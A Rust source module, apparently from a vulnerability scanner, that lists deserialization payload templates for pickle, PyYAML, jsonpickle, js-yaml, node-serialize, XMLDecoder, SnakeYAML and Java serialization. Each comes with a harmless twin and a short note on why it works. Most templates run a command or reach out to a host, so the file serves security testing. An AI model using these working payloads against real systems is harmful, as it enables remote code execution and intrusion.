//! Payloads for readers of serialized objects, one per format.
//!
//! Each starts the canary, asks the canary port, or asks for the address of a name under
//! `localhost`. The twin is a harmless document of the same format. Proven with CPython's pickle,
//! PyYAML 6, jsonpickle 4, js-yaml 3.13.0, node-serialize 0.0.4, the JDK and SnakeYAML 1.33.

use super::{Effect, Form, Payload, PayloadClass};

const fn object(
    id: &'static str,
    template: &'static str,
    effect: Effect,
    twin: &'static str,
    why: &'static str,
) -> Payload {
    Payload::new(PayloadClass::Deserialization, id, template, effect, why).like(twin)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    object(
        "pickle-reduce",
        "cos\nsystem\n(S'{C}'\ntR.",
        Effect::Command,
        "(lp0\nS'{C}'\na.",
        "pickle calls whatever it names; protocol 0 is plain ASCII and every version reads it",
    ),
    object(
        "pickle-bytes",
        "cos\nsystem\n(S'{C}'\ntR.",
        Effect::Command,
        // `(lp0\nS'a'\na.`
        "KGxwMApTJ2EnCmEu",
        "the same in base64, as pickles travel in cookies, headers and queries",
    )
    .formed(Form::Bytes),
    object(
        "yaml-python-apply",
        "!!python/object/apply:os.system ['{C}']",
        Effect::Command,
        "['{C}']",
        "Loader and UnsafeLoader of PyYAML call functions by name",
    ),
    object(
        "yaml-javascript-function",
        "{toString: !!js/function 'function(){(process.getBuiltinModule||(m=>process.mainModule.require(m)))(\"child_process\").spawnSync(\"{C}\")}'}: 1",
        Effect::Command,
        "{toString: '{C}'}",
        "js-yaml 3 makes functions, and turns a key into text, which calls toString",
    ),
    object(
        "node-serialize-function",
        r#"{"a":"_$$ND_FUNC$$_function(){(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')}()"}"#,
        Effect::Command,
        r#"{"a":"{C}"}"#,
        "node-serialize evaluates functions, and the parentheses at the end call it",
    ),
    object(
        "jsonpickle-reduce",
        r#"{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["{C}"]}]}"#,
        Effect::Command,
        r#"{"py/tuple":["{C}"]}"#,
        "jsonpickle calls functions by name, as pickle does",
    ),
    object(
        "xml-decoder",
        "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>{C}</string></void></object></java>",
        Effect::Command,
        "<java><string>{C}</string></java>",
        "java.beans.XMLDecoder is a list of method calls",
    ),
    object(
        "yaml-java-class-loader",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{A}:{P}/{C}/\"]]]]",
        Effect::Connects,
        "[['{C}']]",
        "SnakeYAML before 2.0 calls constructors; this one looks for services at the URL",
    ),
    // A HashMap with one URL, whose hash code asks for the address of its host. Java Object
    // Serialization Specification, section 6.4; serialVersionUID of both classes as in the JDK.
    object(
        "java-url-map",
        concat!(
            "\u{ac}\u{ed}\0\u{5}sr\0\u{11}java.util.HashMap\u{5}\u{7}\u{da}\u{c1}\u{c3}\u{16}`\u{d1}\u{3}\0\u{2}",
            "F\0\u{a}loadFactorI\0\u{9}thresholdxp?@\0\0\0\0\0\u{c}w\u{8}\0\0\0\u{10}\0\0\0\u{1}",
            "sr\0\u{c}java.net.URL\u{96}%76\u{1a}\u{fc}\u{e4}r\u{3}\0\u{7}I\0\u{8}hashCodeI\0\u{4}port",
            "L\0\u{9}authorityt\0\u{12}Ljava/lang/String;L\0\u{4}fileq\0~\0\u{3}L\0\u{4}hostq\0~\0\u{3}",
            "L\0\u{8}protocolq\0~\0\u{3}L\0\u{3}refq\0~\0\u{3}xp\u{ff}\u{ff}\u{ff}\u{ff}\u{ff}\u{ff}\u{ff}\u{ff}",
            "t\0\u{14}{C}.localhostt\0\0q\0~\0\u{5}t\0\u{4}httppxt\0\u{1}ax",
        ),
        Effect::Connects,
        // The serialized text alone, in base64 as the payload: `\xac\xed\0\x05t\0\x01a`.
        "rO0ABXQAAWE=",
        "readObject of HashMap hashes its keys, and the hash of a URL asks for its host's address",
    )
    .formed(Form::Bytes),
];
